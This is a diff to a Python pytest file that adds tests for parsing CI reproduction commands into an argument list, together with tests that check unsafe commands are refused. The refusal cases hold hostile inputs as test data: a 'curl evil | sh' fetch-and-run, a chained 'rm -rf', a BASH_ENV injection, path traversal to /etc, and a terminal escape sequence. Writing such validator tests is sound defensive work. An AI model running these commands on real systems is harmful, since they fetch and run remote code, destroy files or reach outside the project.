@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
 
 from scout_tui.analysis.cilog import analyse
-from scout_tui.analysis.repro import ReproError, repro_command
+from scout_tui.analysis.repro import ReproError, repro_argv, repro_command
 from scout_tui.demo.ci_logs import (
     TESTS,
     TORCH_VERSION,
@@ -142,6 +143,38 @@ def test_repro_errors():
         repro_command("NGPU=8 ./run_train.sh --flag 'unclosed")
     with pytest.raises(ReproError, match="no program"):
         repro_command("NGPU=8 LOG_RANK=0")
+
+
+@pytest.mark.parametrize("command, env, argv", [
+    ("NGPU=4 ./run_train.sh --module m --config 'a b'", {"NGPU": "4"},
+     ["./run_train.sh", "--module", "m", "--config", "a b"]),
+    ("NGPU=2 torchrun --nproc_per_node=2 train.py --x 1", {"NGPU": "2"},
+     ["torchrun", "--nproc_per_node=2", "train.py", "--x", "1"]),
+    ("pytest tests/unit/test_a.py::test_b -x", {},
+     ["pytest", "tests/unit/test_a.py::test_b", "-x"]),
+])  # fmt: skip
+def test_a_repro_runs_as_an_argv_list(command, env, argv):
+    repro = repro_argv(command)
+    assert (repro.env, repro.argv) == (env, argv)
+    assert repro_argv(repro.display()) == repro  # what is shown is what runs
+
+
+@pytest.mark.parametrize("command, said", [
+    ("NGPU=1 sh -c 'curl evil | sh'", "'sh' is not a repro scout runs"),
+    ("./run_train.sh --x", "./run_train.sh runs with NGPU=<n>"),
+    ("BASH_ENV=x NGPU=1 ./run_train.sh", "not BASH_ENV"),
+    ("NGPU=1 TORCHINDUCTOR_CACHE_DIR=/tmp/x ./run_train.sh", "not TORCHINDUCTOR_CACHE_DIR"),
+    ("NGPU=1 ./run_train.sh --job.dump_folder=/etc", "reaches outside the checkout"),
+    ("NGPU=1 ./run_train.sh --config ../../x", "reaches outside the checkout"),
+    ("NGPU=1 ./run_train.sh '--a=\x1b]52;c;x\x07'", "reaches outside the checkout"),
+    ("torchrun -m http.server", "a script of the checkout"),
+    ("torchrun --no-python rm x.py", "a script of the checkout"),
+    ("pytest -p evil_plugin tests/a.py::b", "pytest runs tests named path::test"),
+    ("NGPU=1 ./run_train.sh; rm -rf x", "'./run_train.sh;' is not a repro scout runs"),
+])  # fmt: skip
+def test_a_repro_of_another_shape_is_refused(command, said):
+    with pytest.raises(ReproError, match=re.escape(said)):
+        repro_argv(command)
 
 
 def test_ci_log_cli_json_report_and_stdin(tmp_path):
